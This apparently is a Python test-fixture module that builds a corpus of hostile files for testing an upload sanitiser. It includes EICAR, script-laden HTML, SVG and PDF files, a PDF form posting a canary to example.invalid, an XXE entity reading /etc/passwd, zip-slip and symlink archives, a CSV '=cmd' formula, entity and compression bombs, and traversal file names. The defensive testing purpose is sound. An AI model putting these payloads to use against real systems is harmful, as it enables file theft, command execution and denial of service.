"""More than sixty files that mean harm, or carry more than they show. All made here, of invented words.

Each has a name, bytes, and, where something is hidden in it, the word CANARY: no safe copy may hold it.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

from rightdoor.foundation.files.kinds import LARGEST, PAGES, PIXELS
from tests.casework.documents import made

CANARY = "CANARY7F3A"
HIDDEN = CANARY.encode()
XMP = (
    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
    b"<rdf:Description xmlns:a='http://example.invalid/' a:b='" + HIDDEN + b"'/></rdf:RDF></x:xmpmeta>"
)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """A file, and whether it must be refused outright; otherwise a clean copy of it is as good."""

    what: str
    name: str
    content: bytes
    must_be_refused: bool = False


_made: list[tuple[str, str, Callable[[], bytes], bool]] = []


def _file(what: str, name: str, *, refused: bool = False) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        _made.append((what, name, make, refused))
        return make

    return register


def corpus() -> Iterator[Hostile]:
    """All of them, one after the other."""
    for what, name, make, refused in _made:
        yield Hostile(what, name, make(), refused)


# -------------------- scanner's test file, programs


@_file("EICAR as text", "letter.txt", refused=True)
def _() -> bytes:
    return EICAR


@_file("EICAR called a PDF", "letter.pdf", refused=True)
def _() -> bytes:
    return EICAR


@_file("EICAR within a Word document", "letter.docx")
def _() -> bytes:
    return made.docx(more={"word/embeddings/eicar.com": EICAR + HIDDEN})


@_file("a Windows program called a PDF", "letter.pdf", refused=True)
def _() -> bytes:
    return b"MZ\x90\x00" + bytes(58) + b"\x80\x00\x00\x00" + HIDDEN


@_file("a Windows program by its name", "letter.pdf.exe", refused=True)
def _() -> bytes:
    return b"MZ\x90\x00" + bytes(100)


@_file("a Linux program called a picture", "picture.png", refused=True)
def _() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(100)


@_file("a Java class called text", "letter.txt", refused=True)
def _() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + HIDDEN


@_file("a shell script by its name", "letter.sh", refused=True)
def _() -> bytes:
    return b"#!/bin/sh\necho " + HIDDEN


@_file("a web page by its name", "letter.html", refused=True)
def _() -> bytes:
    return b"<html><script>alert(1)</script></html>"


@_file("a web page called text", "letter.txt", refused=True)
def _() -> bytes:
    return b"  <html><script>alert('" + HIDDEN + b"')</script></html>"


@_file("a drawing with a script by its name", "drawing.svg", refused=True)
def _() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@_file("a drawing with a script called a picture", "drawing.png", refused=True)
def _() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@_file("a drawing with a script called text", "drawing.txt", refused=True)
def _() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + HIDDEN + b"</script></svg>"


# -------------------- two files in one


@_file("a PDF with an archive behind it", "letter.pdf", refused=True)
def _() -> bytes:
    return made.archive({"a.txt": CANARY}, before=made.pdf())


@_file("a photograph with an archive behind it", "picture.jpg", refused=True)
def _() -> bytes:
    return made.archive({"a.txt": CANARY}, before=made.picture())


@_file("a picture with an archive behind it", "picture.png", refused=True)
def _() -> bytes:
    return made.archive({"a.txt": CANARY}, before=made.picture("PNG"))


@_file("a photograph with a PDF in its comment", "picture.jpg", refused=True)
def _() -> bytes:
    note = b"%PDF-1.4 " + HIDDEN
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(note) + 2) + note + made.picture()[2:]


@_file("a photograph with a web page in its comment", "picture.jpg", refused=True)
def _() -> bytes:
    note = b"<html><script>alert(1)</script>"
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(note) + 2) + note + made.picture()[2:]


@_file("a photograph with a PDF behind it", "picture.jpg", refused=True)
def _() -> bytes:
    return made.picture() + made.pdf(words=CANARY)


@_file("a Word document that begins as a PDF", "letter.docx", refused=True)
def _() -> bytes:
    return made.archive({"%PDF-1.4": CANARY, "[Content_Types].xml": made.TYPES, "word/document.xml": "<a/>"})


@_file("a Word document that is a workbook, too", "letter.docx", refused=True)
def _() -> bytes:
    return made.docx(more={"xl/workbook.xml": "<a/>"})


@_file("a workbook called a Word document", "letter.docx", refused=True)
def _() -> bytes:
    return made.xlsx()


@_file("a PDF that begins elsewhere", "letter.pdf", refused=True)
def _() -> bytes:
    return b"\n" * 40 + made.pdf()


@_file("a PDF with a web page behind it", "letter.pdf", refused=True)
def _() -> bytes:
    return made.pdf() + b"<html><script>alert(1)</script>"


@_file("text with an archive behind it", "letter.txt", refused=True)
def _() -> bytes:
    return made.archive({"a.txt": CANARY}, before=b"Invented words. ")


@_file("a letter called a photograph", "picture.jpg", refused=True)
def _() -> bytes:
    return made.pdf()


# -------------------- PDF that acts or hides


def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(made.pdf(pages=2))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, static_id=True)
        return out.getvalue()


def _action(**how: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **how)


@_file("a PDF that runs a script when it is opened", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = _action(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")

    return _pdf(change)


@_file("a PDF with scripts by name", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = pdf.make_indirect(_action(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"// " + HIDDEN)))
        names = pikepdf.Array([pikepdf.String("a"), script])
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))

    return _pdf(change)


@_file("a PDF that acts when a page is turned", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_action(S=pikepdf.Name.JavaScript, JS=CANARY))

    return _pdf(change)


@_file("a PDF that starts a program", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = _action(S=pikepdf.Name.Launch, F=pikepdf.String(CANARY))

    return _pdf(change)


@_file("a PDF that sends a form elsewhere", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T=pikepdf.String("a"),
                V=pikepdf.String(CANARY),
                Rect=[0, 0, 10, 10],
                A=_action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://example.invalid/")),
            )
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([field])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    return _pdf(change)


@_file("a PDF with an XFA form", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        form = pdf.make_stream(b"<xdp:xdp>" + HIDDEN + b"</xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=form)

    return _pdf(change)


@_file("a PDF with a file attached", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["program.exe"] = b"MZ" + HIDDEN

    return _pdf(change)


@_file("a PDF with a note that links away", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[0, 0, 9, 9],
                    Contents=pikepdf.String(CANARY),
                    A=_action(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.invalid/" + CANARY)),
                )
            ]
        )

    return _pdf(change)


@_file("a PDF with a film in it", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        film = pdf.make_stream(b"FLV" + HIDDEN)
        pdf.pages[0].obj.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9], RM=film)]
        )

    return _pdf(change)


@_file("a PDF whose author and history stand in it", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.docinfo["/Author"] = pdf.docinfo["/Title"] = CANARY
        pdf.Root.Metadata = pdf.make_stream(XMP, Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
        pdf.pages[0].obj.PieceInfo = pikepdf.Dictionary(A=pikepdf.String(CANARY))
        pdf.pages[0].obj.Metadata = pdf.make_stream(HIDDEN)

    return _pdf(change)


@_file("a PDF with an older version of itself in it", "letter.pdf")
def _() -> bytes:
    old = made.pdf(words=CANARY)
    with pikepdf.open(io.BytesIO(old)) as pdf:
        number = pdf.pages[0].obj.Contents.objgen[0]
    # An update in the way of the format: the same object again, and a table that points to the new one.
    text = b"BT /F 12 Tf 20 100 Td (Other words) Tj ET"
    at = len(old) + 1
    start = int(old[old.rindex(b"startxref") + 9 :].split()[0])
    trailer = old[old.rindex(b"trailer") :].split(b"startxref")[0] if b"trailer" in old else b""
    body = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(text), text)
    table_at = len(old) + len(body)
    head = trailer.replace(b"trailer <<", b"trailer << /Prev %d" % start)
    table = b"xref\n%d 1\n%010d 00000 n \n%sstartxref\n%d\n%%%%EOF\n" % (number, at, head, table_at)
    return old + body + table


@_file("a PDF with a photograph that knows where it was taken", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        raw = made.picture(exif=_exif())
        image = pikepdf.Stream(
            pdf,
            raw,
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=64,
            Height=48,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Name.DCTDecode,
            Metadata=pdf.make_stream(HIDDEN),
        )
        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(I=image)

    return _pdf(change)


@_file("a PDF with an outline, labels and structure", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem(CANARY, 0))
        pdf.Root.StructTreeRoot = pikepdf.Dictionary(K=pikepdf.Dictionary(Alt=pikepdf.String(CANARY)))
        pdf.Root.PageLabels = pikepdf.Dictionary(Nums=pikepdf.Array([0, pikepdf.Dictionary(P=pikepdf.String(CANARY))]))

    return _pdf(change)


@_file("a PDF that is locked", "letter.pdf", refused=True)
def _() -> bytes:
    with pikepdf.open(io.BytesIO(made.pdf(words=CANARY))) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="one", user="two"))
        return out.getvalue()


@_file("a PDF with too many pages", "letter.pdf", refused=True)
def _() -> bytes:
    return made.pdf(pages=PAGES + 1)


@_file("a PDF whose pages name each other in a circle", "letter.pdf")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        form = pdf.make_stream(b"/F Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(F=form)

    return _pdf(change)


@_file("a PDF of dictionaries within dictionaries, without end", "letter.pdf")
def _() -> bytes:
    deep = b"<< /A " * 3000 + b"1" + b" >>" * 3000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources " + deep + b" >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page]
    out = b"%PDF-1.4\n"
    for number, one in enumerate(objects, start=1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    return out + b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n"


@_file("a PDF whose page unpacks to a gigabyte", "letter.pdf", refused=True)
def _() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(1024)) + packer.flush()

    def change(pdf: pikepdf.Pdf) -> None:
        page = pikepdf.Stream(pdf, packed, Filter=pikepdf.Name.FlateDecode)
        pdf.pages[0].Contents = page

    return _pdf(change)


@_file("a torn PDF", "letter.pdf", refused=True)
def _() -> bytes:
    return made.pdf(words=CANARY)[:300]


# -------------------- pictures


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = CANARY
    exif[0x010F] = CANARY
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[29] = "N", (30.0, 27.0, 3.0), CANARY
    return exif.tobytes()


@_file("a photograph that knows where it was taken", "picture.jpg")
def _() -> bytes:
    return made.picture(exif=_exif(), comment=HIDDEN)


@_file("a picture with texts in it", "picture.png")
def _() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", CANARY)
    notes.add_itxt("XML:com.adobe.xmp", CANARY, zip=True)
    return made.picture("PNG", pnginfo=notes, exif=_exif())


@_file("a picture with a billion pixels", "picture.png", refused=True)
def _() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 40_000, 25_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


@_file("a photograph with a little more than fifty million pixels", "picture.jpg", refused=True)
def _() -> bytes:
    return made.picture(size=(10_000, PIXELS // 10_000 + 1))


@_file("a picture that stops in the middle", "picture.png", refused=True)
def _() -> bytes:
    return made.picture("PNG")[:90]


@_file("a photograph full of random bytes", "picture.jpg")
def _() -> bytes:
    noise = random.Random(7).randbytes(4000)
    return b"\xff\xd8\xff\xe0" + noise.replace(b"\xff", b"\x00") + b"\xff\xd9"


# -------------------- office, packed


@_file("a Word document with macros under another name", "letter.docx", refused=True)
def _() -> bytes:
    return made.docx(more={"word/vbaProject.bin": HIDDEN})


@_file("a Word document that calls itself one with macros", "letter.docx", refused=True)
def _() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return made.archive({"[Content_Types].xml": types, "word/document.xml": "<a/>"})


@_file("a Word document with macros by its name", "letter.docm", refused=True)
def _() -> bytes:
    return made.docx(more={"word/vbaProject.bin": HIDDEN})


@_file("a Word document whose template lies elsewhere", "letter.docx")
def _() -> bytes:
    away = f'TargetMode="External" Target="https://{CANARY}.invalid/"'
    link = f'<Relationships><Relationship Id="r" {away}/></Relationships>'
    return made.docx(more={"word/_rels/settings.xml.rels": link})


@_file("a Word document with author, comments and deleted words", "letter.docx")
def _() -> bytes:
    body = f"<w:p><w:r><w:t>Shown</w:t></w:r><w:del><w:r><w:delText>{CANARY}</w:delText></w:r></w:del></w:p>"
    return made.docx(
        body=body,
        more={"docProps/core.xml": f"<creator>{CANARY}</creator>", "word/comments.xml": f"<w:t>{CANARY}</w:t>"},
    )


@_file("a Word document of entities that multiply", "letter.docx", refused=True)
def _() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "{CANARY}">{lines}]><a><t>&a9;</t></a>'
    return made.archive({"[Content_Types].xml": made.TYPES, "word/document.xml": text})


@_file("a Word document that asks for a file of ours", "letter.docx", refused=True)
def _() -> bytes:
    text = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><t>&x;</t></a>'
    return made.archive({"[Content_Types].xml": made.TYPES, "word/document.xml": text})


@_file("a Word document that unpacks to fifty times its size", "letter.docx", refused=True)
def _() -> bytes:
    return made.docx(more={"word/media/a.bin": bytes(200 * 1024 * 1024)})


@_file("a Word document with a hundred and one members", "letter.docx", refused=True)
def _() -> bytes:
    return made.docx(more={f"word/{number}.xml": "a" for number in range(101)})


@_file("a Word document that climbs out of its folder", "letter.docx", refused=True)
def _() -> bytes:
    return made.docx(more={"../../../../etc/cron.d/canary": HIDDEN})


@_file("a Word document with a link to a file of ours", "letter.docx", refused=True)
def _() -> bytes:
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


@_file("a workbook whose header lies about a size", "table.xlsx")
def _() -> bytes:
    content = bytearray(made.xlsx(words=CANARY * 1000))
    at = content.rindex(b"xl/sharedStrings.xml") - 46  # in the table at the end
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


@_file("a workbook with links and hidden parts", "table.xlsx")
def _() -> bytes:
    return made.xlsx(more={"xl/externalLinks/externalLink1.xml": CANARY, "docProps/app.xml": CANARY})


# -------------------- text, mail, names


@_file("a table with live formulas", "table.csv")
def _() -> bytes:
    return b"=cmd|' /C calc'!A0,+1,-1,@SUM(A1)\n"


@_file("text with marks that turn its direction", "letter\u202efdp.txt")
def _() -> bytes:
    return "Invented \u202ewords".encode()


@_file("text with null bytes", "letter.txt", refused=True)
def _() -> bytes:
    return b"Invented\x00words" + HIDDEN


@_file("a mail with a program attached", "letter.eml")
def _() -> bytes:
    head = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n'
    body = (
        "--b\nContent-Type: text/html\n\n<p>Shown</p><script>" + CANARY + "</script>\n"
        '--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename="a.exe"\n\n'
        + CANARY
        + "\n--b--\n"
    )
    return made.mail(words=body, more=head)


@_file("a file with nothing but an ending for a name", ".pdf", refused=True)
def _() -> bytes:
    return made.pdf()


@_file("a file whose name climbs", "../../../etc/passwd", refused=True)
def _() -> bytes:
    return made.pdf()


@_file("a file whose name ends in a null", "letter.pdf\x00.exe", refused=True)
def _() -> bytes:
    return made.pdf()


@_file("a file of nothing", "letter.pdf", refused=True)
def _() -> bytes:
    return b""


@_file("a file that is too large", "letter.txt", refused=True)
def _() -> bytes:
    return b"a" * (LARGEST + 1)


@_file("a recording called text", "letter.txt", refused=True)
def _() -> bytes:
    return b"RIFF\x24\x00\x00\x00WAVEfmt " + HIDDEN
